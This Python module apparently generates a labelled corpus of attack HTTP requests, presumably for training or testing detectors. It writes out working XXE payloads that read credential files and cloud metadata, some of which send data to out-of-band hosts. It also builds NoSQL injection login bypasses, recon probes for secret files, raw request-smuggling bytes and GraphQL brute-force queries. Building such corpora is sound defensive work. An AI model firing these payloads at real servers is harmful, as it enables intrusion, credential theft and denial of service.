"""Attacks that shape the whole request rather than one value: XXE, NoSQL
injection, scanners and recon probes, HTTP protocol anomalies (smuggling).

Each builder returns a dict with method, uri, headers, body (or raw/body_b64),
placement and evasion.
"""

import base64
import json
import re

from corpus_common import (HOSTS_API, UA_ATTACK, auth_header, b64, base_headers, pct, pct_all)
from corpus_payloads_inj import OAST, ATTACKER_IPS, weighted
from corpus_placement import multipart

XXE_TARGETS = ["file:///etc/passwd", "file:///etc/passwd", "file:///etc/hostname", "file:///c:/windows/win.ini", "file:///proc/self/environ",
               "php://filter/convert.base64-encode/resource=/etc/passwd", "php://filter/read=convert.base64-encode/resource=index.php",
               "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "expect://id", "netdoc:/etc/passwd",
               "file:///root/.ssh/id_rsa", "file:///var/www/html/.env", "jar:http://{ip}:8000/x.zip!/a", "http://127.0.0.1:8080/admin"]
XXE_DOCS = [("stockCheck", "productId", "<storeId>1</storeId>"), ("order", "reference", "<qty>2</qty><sku>SKU-00412</sku>"),
            ("user", "name", "<email>ann@mail.example</email>"), ("invoice", "customerNote", "<total currency=\"EUR\">12.50</total>"),
            ("feed", "title", "<link>https://blog.example/p/1</link>"), ("search", "query", "<limit>10</limit>")]
XXE_PATHS = ["/api/v1/orders/import", "/api/stock/check", "/api/v1/users/import", "/xml/rpc", "/api/v2/invoices", "/feeds/upload", "/api/v1/search"]


def _xxe_doc(rng, kind, target, oast):
    root, field, extra = rng.choice(XXE_DOCS)
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n' if rng.random() < 0.7 else '<?xml version="1.0"?>'
    ws = (lambda s: s) if kind != "whitespace" else (lambda s: s.replace(" ", rng.choice(["  ", "\n  ", "\t", " \r\n "])))
    if kind in ("classic", "whitespace", "utf16", "content_type_switch", "utf7"):
        dtd = ws('<!DOCTYPE %s [ <!ENTITY xxe SYSTEM "%s"> ]>' % (root, target))
        return decl + dtd + "<%s><%s>&xxe;</%s>%s</%s>" % (root, field, field, extra, root)
    if kind == "public_id":
        return decl + '<!DOCTYPE %s [<!ENTITY xxe PUBLIC "-//B/A/EN" "%s">]><%s><%s>&xxe;</%s>%s</%s>' % (root, target, root, field, field, extra, root)
    if kind == "oob_parameter":
        return decl + '<!DOCTYPE %s [<!ENTITY %% xxe SYSTEM "http://%s/evil.dtd"> %%xxe;]><%s><%s>1</%s></%s>' % (root, oast, root, field, field, root)
    if kind == "oob_exfil":
        return decl + ('<!DOCTYPE %s [<!ENTITY %% file SYSTEM "%s"><!ENTITY %% dtd SYSTEM "http://%s/combine.dtd">%%dtd;%%send;]>'
                       '<%s><%s>&exfil;</%s></%s>' % (root, target, oast, root, field, field, root))
    if kind == "error_based":
        return decl + ('<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
                       '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM '
                       '&#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]><message>x</message>')
    if kind == "xinclude":
        return '<%s xmlns:xi="http://www.w3.org/2001/XInclude"><%s><xi:include parse="text" href="%s"/></%s>%s</%s>' % (root, field, target, field, extra, root)
    if kind == "billion_laughs":
        ents = ['<!ENTITY lol "lol">'] + ['<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10)]
        return decl + '<!DOCTYPE lolz [%s]><lolz>&lol9;</lolz>' % "".join(ents)
    if kind == "quadratic_blowup":
        return decl + '<!DOCTYPE q [<!ENTITY a "%s">]><q>%s</q>' % ("A" * 400, "&a;" * 60)
    if kind == "external_dtd":
        return decl + '<!DOCTYPE %s SYSTEM "http://%s/x.dtd"><%s><%s>1</%s></%s>' % (root, oast, root, field, field, root)
    raise ValueError(kind)


def xxe_request(rng):
    oast = rng.choice(OAST).split("/")[0]
    target = rng.choice(XXE_TARGETS).replace("{ip}", rng.choice(ATTACKER_IPS))
    kind = weighted(rng, [("classic", 30), ("public_id", 6), ("oob_parameter", 10), ("oob_exfil", 8), ("error_based", 4), ("xinclude", 8),
                           ("billion_laughs", 5), ("quadratic_blowup", 2), ("external_dtd", 6), ("whitespace", 6), ("utf16", 5),
                           ("content_type_switch", 5), ("utf7", 2)])
    host = rng.choice(HOSTS_API)
    ua = rng.choice(UA_ATTACK)
    headers = base_headers(rng, host, ua=ua, accept="application/xml, */*", browser=False)
    if rng.random() < 0.3:
        headers.append(auth_header(rng))
    placement = weighted(rng, [("xml_body", 60), ("soap_body", 15), ("multipart_svg", 10), ("b64_form", 6), ("query", 5), ("json", 4)])
    doc = _xxe_doc(rng, kind, target, oast)
    evasion = {"classic": "none", "oob_parameter": "parameter_entity", "oob_exfil": "parameter_entity"}.get(kind, kind)
    out = {"method": "POST", "uri": rng.choice(XXE_PATHS), "headers": headers, "body": "", "placement": placement, "evasion": evasion}
    if kind == "utf7":
        doc = doc.replace('encoding="UTF-8"', 'encoding="UTF-7"').replace("<?xml version=\"1.0\"?>", '<?xml version="1.0" encoding="UTF-7"?>')
        head, _, rest = doc.partition("?>")
        doc = head + "?>" + rest.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
    if kind in ("utf16", "utf7", "content_type_switch"):
        placement = out["placement"] = "xml_body"
    if placement == "soap_body":
        prolog, inner = "", doc
        if "<!DOCTYPE" in doc:
            j = doc.find("]>") + 2 if "]>" in doc else doc.find(">", doc.find("<!DOCTYPE")) + 1
            prolog = re.sub(r"<!DOCTYPE\s+\S+", "<!DOCTYPE soapenv:Envelope", doc[:j], count=1)
            inner = doc[j:]
        elif inner.startswith("<?xml"):
            prolog, inner = inner[:inner.find("?>") + 2], inner[inner.find("?>") + 2:]
        doc = prolog + ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>%s</soapenv:Body></soapenv:Envelope>' % inner)
        out["uri"] = rng.choice(["/soap/OrderService", "/services/CustomerService", "/ws/v1/InventoryPort"])
        headers += [["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"urn:%s"' % rng.choice(["importOrder", "getCustomer", "checkStock"])]]
    elif placement == "multipart_svg":
        svg = doc
        if "]>" in doc:
            ref = "&xxe;" if "&xxe;" in doc else "&exfil;" if "&exfil;" in doc else "&lol9;" if "&lol9;" in doc else "x"
            svg = re.sub(r"<!DOCTYPE\s+\S+", "<!DOCTYPE svg", doc[:doc.find("]>") + 2], count=1) + \
                '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text x="1" y="20">%s</text></svg>' % ref
        ctype, body = multipart(rng, [("name", "avatar")], ("avatar.svg", "image/svg+xml", svg))
        out["uri"] = rng.choice(["/api/v1/users/me/avatar", "/api/v1/uploads", "/api/v1/products/%d/images" % rng.randrange(100, 999)])
        headers.append(["Content-Type", ctype])
        out["body"] = body
        return out
    elif placement == "b64_form":
        out["uri"] = rng.choice(["/saml/acs", "/sso/saml2/acs", "/auth/saml/callback"])
        body = "SAMLResponse=%s&RelayState=%s" % (pct(b64(doc)), pct("/dashboard"))
        headers.append(["Content-Type", "application/x-www-form-urlencoded"])
        out["body"] = body
        return out
    elif placement == "query":
        out["method"] = "GET"
        out["uri"] = rng.choice(["/api/v1/render", "/xmlrpc", "/api/v1/validate"]) + "?xml=" + (pct(doc) if rng.random() < 0.7 else pct_all(doc))
        return out
    elif placement == "json":
        out["body"] = json.dumps({"format": "xml", "document": doc, "async": False})
        headers.append(["Content-Type", "application/json"])
        return out
    else:
        ct = "application/json" if kind == "content_type_switch" else rng.choice(["application/xml", "text/xml", "application/xml; charset=utf-8"])
        if kind == "content_type_switch":
            out["uri"] = rng.choice(["/api/v1/orders", "/api/v1/users", "/api/v1/cart"])
            ct = "application/xml"
        headers.append(["Content-Type", ct])
    if kind == "utf16":
        raw = doc.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
        out["body_b64"] = base64.b64encode(raw).decode("ascii")
        out["body"] = ""
        headers.append(["Content-Length", str(len(raw))])
        return out
    out["body"] = doc
    return out


NOSQL_JSON_LOGIN = [
    ({"username": "admin", "password": {"$ne": None}}, "none"), ({"username": {"$ne": ""}, "password": {"$ne": ""}}, "none"),
    ({"username": {"$gt": ""}, "password": {"$gt": ""}}, "none"), ({"username": "admin", "password": {"$regex": "^a"}}, "none"),
    ({"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$ne": "x"}}, "none"), ({"email": {"$regex": ".*"}, "password": {"$ne": "1"}}, "none"),
    ({"username": "admin", "password": {"$nin": [""]}}, "none"), ({"username": {"$exists": True}, "password": {"$exists": True}}, "none"),
    ({"$or": [{"username": "admin"}, {"username": {"$ne": None}}], "password": {"$ne": None}}, "none"),
    ({"username": "admin", "$where": "this.password.length > 0"}, "none"), ({"$where": "sleep(5000) || true"}, "none"),
    ({"username": {"$regex": "^adm", "$options": "i"}, "password": {"$ne": "invalid"}}, "none"),
    ({"username": "carlos", "password": {"$regex": "^.{8}$"}}, "none"), ({"login": {"$eq": "admin"}, "pass": {"$gt": None}}, "none"),
    ({"username": "admin", "password": {"$not": {"$type": 2}}}, "none"), ({"email": "a@b.c", "otp": {"$gte": 0}}, "none"),
    ({"filter": {"$where": "function(){return this.role=='admin'}"}}, "none"), ({"query": {"price": {"$lt": 0}, "$expr": {"$eq": [1, 1]}}}, "none"),
    ({"pipeline": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "leak"}}]}, "none"),
    ({"selector": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}, "none"),
    ({"token": {"$ne": "00000000"}, "user_id": 1}, "none"), ({"reset_code": {"$regex": "^1"}, "email": "victim@mail.example"}, "none"),
]
NOSQL_QUERY = ["username[$ne]=toto&password[$ne]=toto", "user[$regex]=.*&pass[$ne]=1", "login[$gt]=&password[$gt]=", "id[$ne]=1",
               "username=admin&password[$regex]=^p.*", "email[$exists]=true&password[$ne]=", "username[$in][]=admin&username[$in][]=root&password[$ne]=x",
               "user=admin&pass[$nin][]=a", "$where=sleep(5000)", "filter[$where]=this.isAdmin==true", "token[$ne]=null", "q[$regex]=^.&q[$options]=s",
               "username=admin&password[%24ne]=1", "username%5B%24ne%5D=x&password%5B%24ne%5D=x", "search=' || '1'=='1", "user=';return true;var x='",
               "name=\"; sleep(5000); var a=\"", "id=1;return true", "category=a'%7C%7C'a'%3D%3D'a", "username[$regex]=^admin$&password[$regex]=^.{0,}$"]


def _json_dollar_escape(text):
    return text.replace('"$', '"\\u0024')


def nosqli_request(rng):
    host = rng.choice(HOSTS_API)
    ua = rng.choice(UA_ATTACK)
    headers = base_headers(rng, host, ua=ua, accept="application/json", browser=ua.startswith("Mozilla/5.0 ("))
    r = rng.random()
    if r < 0.5:
        doc, ev = rng.choice(NOSQL_JSON_LOGIN)
        shape = rng.random()
        if shape < 0.25:
            doc = {"data": {"type": "session", "attributes": doc}}
        elif shape < 0.35:
            doc = {"operationName": "Login", "query": "mutation Login($input: LoginInput!) { login(input: $input) { token } }", "variables": {"input": doc}}
        body = json.dumps(doc)
        placement = "json" if shape >= 0.35 or shape < 0.25 else "graphql_var"
        if rng.random() < 0.2:
            body, ev = _json_dollar_escape(body), "json_unicode"
        uri = "/graphql" if placement == "graphql_var" else rng.choice(["/api/v1/login", "/api/auth/login", "/api/v1/sessions", "/api/v1/users/search", "/api/v1/password/reset", "/api/v2/products/query"])
        headers.append(["Content-Type", "application/json"])
        return {"method": "POST", "uri": uri, "headers": headers, "body": body, "placement": placement, "evasion": ev}
    q = rng.choice(NOSQL_QUERY)
    ev = "url_encode" if "%24" in q or "%5B" in q or "%7C" in q else "js_injection" if "$" not in q else "none"
    if rng.random() < 0.15 and "[$" in q:
        q, ev = q.replace("[", "%5B").replace("]", "%5D").replace("$", "%24"), "url_encode"
    q = q.replace(" ", rng.choice(["%20", "+"])).replace('"', "%22")
    if r < 0.8:
        uri = rng.choice(["/api/v1/users", "/login", "/api/v1/products", "/api/v1/accounts/lookup"]) + "?" + q
        return {"method": "GET", "uri": uri, "headers": headers, "body": "", "placement": "query", "evasion": ev}
    headers.append(["Content-Type", "application/x-www-form-urlencoded"])
    return {"method": "POST", "uri": rng.choice(["/login", "/api/v1/login", "/account/signin"]), "headers": headers,
            "body": q.replace("[", "%5B").replace("]", "%5D") if rng.random() < 0.5 else q, "placement": "form", "evasion": ev}


SCANNER_UAS = [
    "sqlmap/1.7.12#stable (https://sqlmap.org)", "sqlmap/1.5.2#stable (http://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Wfuzz/3.1.0", "Arachni/v1.5.1", "OpenVAS-VT", "w3af.org", "ZmEu", "Mozilla/5.0 zgrab/0.x", "commix/v3.8-stable (https://commixproject.com)",
    "Hydra", "jaeles", "Mozilla/5.0 (compatible; Netsparker)", "dirsearch", "feroxbuster/2.10.1", "Acunetix-Agent",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 Safari/537.36 Nuclei",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Paros/3.2.13", "Mozilla/5.0 (compatible; Qualys Web Application Scanning)",
   
]
SCANNER_HEADERS = [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Normal)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"],
                   ["X-Scanner", "Netsparker"], ["X-WIPP", "AscVersion=22.2.0.253"], ["Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"]]
RECON_PATHS = ["/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-config.php.bak", "/phpmyadmin/index.php", "/actuator/env", "/actuator/heapdump",
               "/server-status", "/.aws/credentials", "/.DS_Store", "/config.php~", "/backup.sql", "/db.sql.gz", "/.svn/entries", "/WEB-INF/web.xml",
               "/cgi-bin/test-cgi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/cores?action=STATUS&wt=json",
               "/_ignition/execute-solution", "/boaform/admin/formLogin", "/HNAP1/", "/manager/html", "/jmx-console/HtmlAdaptor", "/.htpasswd",
               "/owa/auth/logon.aspx", "/api/v1/pods", "/console/login/LoginForm.jsp", "/nikto-test-4e8c.html",
               "/acunetix-wvs-test-for-some-inexistent-file", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
               "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
               "/debug/default/view?panel=config", "/.vscode/sftp.json", "/docker-compose.yml", "/.npmrc", "/info.php", "/phpinfo.php", "/telescope/requests",
               "/api/swagger-resources/../../actuator/env", "/admin/.env", "/laravel/.env", "/storage/logs/laravel.log", "/wp-content/debug.log",
               "/xmlrpc.php", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
               "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../", "/sdk/vimServiceVersions.xml"]
SCANNER_PATHS = ["/", "/api/v1/products?id=1", "/index.php", "/login", "/api/v1/users", "/robots.txt", "/api", "/search?q=test"]


def scanner_request(rng):
    host = rng.choice(HOSTS_API)
    r = rng.random()
    if r < 0.55:
        ua = rng.choice(SCANNER_UAS)
        headers = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]]
        if rng.random() < 0.3:
            headers.append(["Connection", "close"])
        path = rng.choice(SCANNER_PATHS + RECON_PATHS[:20])
        if "sqlmap" in ua and rng.random() < 0.6:
            path = "/api/v1/products?id=1%%20AND%%20%d=%d" % ((rng.randrange(1000, 9999),) * 2)
        return {"method": rng.choice(["GET", "GET", "GET", "HEAD", "POST"]) if "sqlmap" not in ua else "GET", "uri": path, "headers": headers,
                "body": "", "placement": "header_ua", "evasion": "none"}
    if r < 0.65:
        ua = rng.choice(UA_ATTACK)
        headers = base_headers(rng, host, ua=ua, browser=False) + [list(rng.choice(SCANNER_HEADERS))]
        return {"method": "GET", "uri": rng.choice(SCANNER_PATHS + RECON_PATHS), "headers": headers, "body": "",
                "placement": "header_custom", "evasion": "none"}
    ua = rng.choice(UA_ATTACK)
    headers = base_headers(rng, host, ua=ua, accept="*/*", browser=ua.startswith("Mozilla/5.0 ("))
    return {"method": "GET", "uri": rng.choice(RECON_PATHS), "headers": headers, "body": "", "placement": "path", "evasion": "recon_probe"}


def _raw(lines, body=b""):
    return base64.b64encode(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body).decode("ascii")


def protocol_requests(rng):
    """Smuggling and framing anomalies, each as raw wire bytes (raw_b64)."""
    out = []
    host = "api.shop.example"
    smug = "GET /admin/users HTTP/1.1\r\nHost: %s\r\nX-Ignore: X" % host
    smug_post = "POST /api/v1/users/1/role HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"role\":\"admin\"}" % host
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
    base = ["Host: " + host, "User-Agent: " + ua, "Content-Type: application/x-www-form-urlencoded"]
    for inner, tag in ((smug, "get"), (smug_post, "post")):
        chunked = "0\r\n\r\n" + inner
        out.append(("cl_te", _raw(["POST /api/v1/search HTTP/1.1"] + base + ["Content-Length: %d" % len(chunked), "Transfer-Encoding: chunked"], chunked.encode())))
        te_body = "%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
        out.append(("te_cl", _raw(["POST /api/v1/search HTTP/1.1"] + base + ["Content-Length: 4", "Transfer-Encoding: chunked"], te_body.encode())))
        for te in ["Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding:\tchunked",
                   "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-encoding: cow", "Transfer-Encoding:\n chunked",
                   "X: X\nTransfer-Encoding: chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunk"]:
            out.append(("te_obfuscation", _raw(["POST /api/v1/search HTTP/1.1"] + base + ["Content-Length: %d" % len(chunked), te], chunked.encode())))
    body = "q=shoes"
    for cls in [("Content-Length: 7", "Content-Length: 41"), ("Content-Length: 7", "Content-Length: 0"), ("Content-Length: 7, 41",), ("Content-Length: +7",),
                ("Content-Length: 07", "Content-Length: 7 "), ("Content-Length: -1",), ("Content-Length: 0x7",), ("Content-Length: 18446744073709551623",)]:
        out.append(("content_length_conflict", _raw(["POST /api/v1/search HTTP/1.1"] + base + list(cls), (body + "GET /admin HTTP/1.1\r\nX: y").encode())))
    for bad in ["ffffffffffffffff1", "-1", "0x5", " 5", "5\x00", "5\n"]:
        out.append(("chunk_size_anomaly", _raw(["POST /api/v1/upload HTTP/1.1", "Host: " + host, "Transfer-Encoding: chunked", "Content-Type: text/plain"],
                                               ("%s\r\nhello\r\n0\r\n\r\n" % bad).encode("latin-1"))))
    out.append(("h2c_upgrade", _raw(["GET /admin HTTP/1.1", "Host: " + host, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Connection: Upgrade, HTTP2-Settings"])))
    out.append(("h2c_upgrade", _raw(["GET /api/v1/internal/metrics HTTP/1.1", "Host: " + host, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA", "Connection: Upgrade"])))
    out.append(("duplicate_host", _raw(["GET /api/v1/orders HTTP/1.1", "Host: " + host, "Host: internal-admin.corp.local", "User-Agent: " + ua])))
    out.append(("absolute_uri_host_mismatch", _raw(["GET http://internal-admin.corp.local/admin HTTP/1.1", "Host: " + host, "User-Agent: " + ua])))
    out.append(("absolute_uri_host_mismatch", _raw(["GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", "Host: " + host])))
    out.append(("obs_fold", _raw(["POST /api/v1/search HTTP/1.1", "Host: " + host, "Content-Length: 7", " Transfer-Encoding: chunked", "Content-Type: text/plain"], b"q=shoes")))
    out.append(("nul_in_header", _raw(["GET /api/v1/orders HTTP/1.1", "Host: " + host, "X-Forwarded-For: 127.0.0.1\x00198.51.100.7"])))
    out.append(("bare_lf", base64.b64encode(("POST /api/v1/search HTTP/1.1\nHost: %s\nContent-Length: 7\nTransfer-Encoding: chunked\n\n0\n\nGET /admin HTTP/1.1\n\n" % host).encode()).decode()))
    out.append(("invalid_header_name", _raw(["GET /api/v1/orders HTTP/1.1", "Host: " + host, "Content-Length\x0b: 5"])))
    out.append(("invalid_header_name", _raw(["GET / HTTP/1.1", "Host: " + host, "Transfer Encoding: chunked", "[X]: y"])))
    out.append(("request_line_garbage", _raw(["GET /api/v1/orders HTTP/1.1 HTTP/1.0", "Host: " + host])))
    out.append(("request_line_garbage", _raw(["GET /api/v1/orders?x=1 HTTP/1.1\x00", "Host: " + host])))
    out.append(("request_line_garbage", _raw(["G\x00ET /admin HTTP/1.1", "Host: " + host])))
    out.append(("get_with_body_smuggle", _raw(["GET /api/v1/products HTTP/1.1", "Host: " + host, "Content-Length: %d" % len(smug + "\r\n\r\n")], (smug + "\r\n\r\n").encode())))
    rng.shuffle(out)
    return out


GQL_FIELDS = ["friends", "followers", "posts", "comments", "author", "replies", "orders", "items", "product", "reviews"]


def graphql_request(rng):
    """GraphQL resource abuse (OWASP API4): depth, alias/batch brute force, duplication, fragment cycles."""
    host = rng.choice(["graphql.shop.example", "api.shop.example", "api.blog.example"])
    ua = rng.choice(UA_ATTACK)
    headers = base_headers(rng, host, ua=ua, accept="application/json", browser=ua.startswith("Mozilla/5.0 ("))
    if rng.random() < 0.5:
        headers.append(auth_header(rng))
    kind = weighted(rng, [("deep_nesting", 25), ("alias_bruteforce", 20), ("batch_array", 15), ("field_duplication", 10),
                           ("directive_overload", 8), ("fragment_cycle", 8), ("alias_overload", 10)])
    variables = None
    if kind == "deep_nesting":
        depth = rng.randrange(12, 40)
        path = [rng.choice(GQL_FIELDS[:6]) for _ in range(depth)]
        q = "query { user(id: %d) { " % rng.randrange(1, 999) + "".join("%s { " % f for f in path) + "id name" + " }" * (depth + 1) + " }"
    elif kind == "alias_bruteforce":
        n = rng.randrange(30, 100)
        if rng.random() < 0.5:
            q = "mutation { " + " ".join('a%d: login(email: "admin@shop.example", password: "%s") { token }' % (i, rng.choice(["123456", "password", "Summer2024!", "qwerty"]) + str(i))
                                          for i in range(n)) + " }"
        else:
            q = "mutation { " + " ".join('c%d: verifyOtp(code: "%06d") { ok }' % (i, rng.randrange(10**6)) for i in range(n)) + " }"
    elif kind == "batch_array":
        n = rng.randrange(30, 80)
        ops = [{"operationName": "Login", "query": "mutation Login($e: String!, $p: String!) { login(email: $e, password: $p) { token } }",
                "variables": {"e": "admin@shop.example", "p": "guess%04d" % i}} for i in range(n)]
        return {"method": "POST", "uri": "/graphql", "headers": headers + [["Content-Type", "application/json"]], "body": json.dumps(ops, separators=(",", ":")),
                "placement": "json", "evasion": "batching"}
    elif kind == "field_duplication":
        q = "query { me { " + " ".join(["email"] * rng.randrange(200, 600)) + " } }"
    elif kind == "directive_overload":
        q = "query { me " + "@include(if: true) " * rng.randrange(150, 400) + "{ id } }"
    elif kind == "fragment_cycle":
        q = "query { me { ...A } } fragment A on User { friends { ...B } } fragment B on User { followers { ...A } }"
    else:
        q = "query { " + " ".join("q%d: search(query: \"%s\") { totalCount }" % (i, rng.choice(["a", "e", "*"])) for i in range(rng.randrange(60, 200))) + " }"
    r = rng.random()
    if r < 0.65:
        body = json.dumps({"query": q, "variables": variables or {}}, separators=(",", ":"))
        return {"method": "POST", "uri": rng.choice(["/graphql", "/api/graphql"]), "headers": headers + [["Content-Type", "application/json"]], "body": body,
                "placement": "json", "evasion": "none"}
    if r < 0.85 and len(q) < 6000:
        return {"method": "GET", "uri": "/graphql?query=" + pct(q, plus_space=True), "headers": headers, "body": "", "placement": "query", "evasion": "none"}
    return {"method": "POST", "uri": "/graphql", "headers": headers + [["Content-Type", "application/graphql"]], "body": q, "placement": "graphql_doc", "evasion": "none"}
